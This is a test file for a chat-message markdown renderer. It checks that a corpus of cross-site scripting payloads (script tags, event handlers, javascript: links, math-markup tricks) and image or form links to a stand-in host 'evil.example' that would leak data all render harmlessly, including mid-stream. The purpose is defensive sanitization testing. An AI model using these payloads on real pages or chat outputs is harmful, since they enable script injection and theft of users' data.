import { cleanup } from '@testing-library/react'
import { afterEach, expect, test, vi } from 'vitest'
import { draw } from '../../testing'
import Rendered from './Rendered'

afterEach(cleanup)

/** Attacks that have worked on pages of this kind; each must come out as harmless text. */
const corpus = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload=window.hit=1>',
  '<iframe src="javascript:window.hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<a href="javascript:window.hit=1">x</a>',
  '<details open ontoggle=window.hit=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<object data="javascript:window.hit=1"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<video><source onerror="window.hit = 1"></video>',
  '<b onmouseover="window.hit=1">x</b>',
  '<sub onclick=window.hit=1>x</sub>',
  '<br onload=window.hit=1>',
  '[x](javascript:window.hit=1)',
  '[x](java&#115;cript:window.hit=1)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox)',
  '[x](/api/chats)',
  '<javascript:window.hit=1>',
  '![x](https://evil.example/steal?q=secret)',
  '![x](//evil.example/steal)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:window.hit=1)',
  '[![x](https://evil.example/p.png)](javascript:window.hit=1)',
  '[a]: javascript:window.hit=1\n\n[a]',
  '![a][b]\n\n[b]: https://evil.example/p.png',
  'x[^1]\n\n[^1]: <img src=x onerror=window.hit=1>',
  '| <img src=x onerror=window.hit=1> |\n|-|\n| [x](javascript:1) |',
  '```html\n<img src=x onerror=window.hit=1>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=window.hit=1>"]\n```',
  '$\\href{javascript:window.hit=1}{x}$',
  '$\\includegraphics{https://evil.example/p.png}$',
  '$\\htmlData{onload=window.hit=1}{x}$',
  '```"><img src=x onerror=window.hit=1>\ncode\n```',
]

const allowed = new Set(
  [
    'A,ANNOTATION,B,BLOCKQUOTE,BR,BUTTON,CIRCLE,CODE,DEL,DIV,EM,FIGCAPTION,FIGURE,H1,H2,H3,H4,H5,H6,HR,I',
    'IMG,KBD,LI,LINE,MARK,OL,P,PATH,PRE,RECT,S,SECTION,SMALL,SPAN,STRONG,SUB,SUP,SVG,TABLE,TBODY,TD,TH',
    'THEAD,TR,U,UL,MATH,SEMANTICS,MROW,MI,MN,MO,MTEXT,MSTYLE,MSUP,MSUB,MFRAC,MPADDED,MERROR,MSPACE,POLYLINE',
  ].flatMap(names => names.split(',')),
)

function inspect(root: HTMLElement, source: string): void {
  for (const element of root.querySelectorAll('*')) {
    expect(allowed, source).toContain(element.tagName.toUpperCase())
    for (const { name, value } of element.attributes) {
      expect(name, source).not.toMatch(/^on|^srcdoc$|^action$|^formaction$/i)
      expect(value, source).not.toMatch(/^\s*(?:javascript|vbscript):/i)
    }
    if (element instanceof HTMLImageElement) expect(element.src).toMatch(/^(?:data:image\/|blob:)/)
    if (element instanceof HTMLAnchorElement) {
      const href = element.getAttribute('href') ?? ''
      expect(href, source).toMatch(/^(?:https?:|mailto:|#[\w-]+-fn)/)
      if (!href.startsWith('#')) expect(element.rel).toContain('noopener')
    }
  }
}

test.each(corpus)('%s is harmless, whole', source => {
  const { container } = draw(<Rendered text={source} finished id="m" />)
  inspect(container, source)
  expect(window).not.toHaveProperty('hit')
})

test('the whole corpus is harmless at every stage of streaming', () => {
  const source = corpus.join('\n\n')
  const { container, rerender } = draw(<Rendered text="" finished={false} id="m" />)
  for (let to = 0; to < source.length; to += 17) {
    rerender(<Rendered text={source.slice(0, to)} finished={false} id="m" />)
    inspect(container, source.slice(Math.max(0, to - 40), to))
  }
  expect(window).not.toHaveProperty('hit')
})

test('an image from elsewhere is named and linked, and never fetched', () => {
  const fetched = vi.spyOn(window, 'fetch')
  const { container, getByRole } = draw(
    <Rendered text="![Sky](https://a.example/sky.png)" finished id="m" />,
  )
  expect(container.querySelector('img')).toBeNull()
  expect(container.textContent).toContain('https://a.example/sky.png')
  expect(fetched).not.toHaveBeenCalled()
  const link = getByRole('link')
  expect(link.getAttribute('href')).toBe('https://a.example/sky.png')
  expect(link.getAttribute('rel')).toBe('noopener noreferrer')
})

test('links open elsewhere and take nothing along', () => {
  const { getByRole } = draw(<Rendered text="[a](https://a.example/)" finished id="m" />)
  const link = getByRole('link')
  expect(link.getAttribute('target')).toBe('_blank')
  expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
})

test('a streaming answer keeps the elements of what is finished', () => {
  const start = 'One.\n\nTwo.\n\nThree.\n\n'
  const { container, rerender } = draw(<Rendered text={`${start}Fo`} finished={false} id="m" />)
  const first = container.querySelector('p')
  rerender(<Rendered text={`${start}Four.`} finished={false} id="m" />)
  rerender(<Rendered text={`${start}Four.`} finished id="m" />)
  expect(container.querySelector('p')).toBe(first)
  expect(container.textContent).toBe('One.Two.Three.Four.')
})
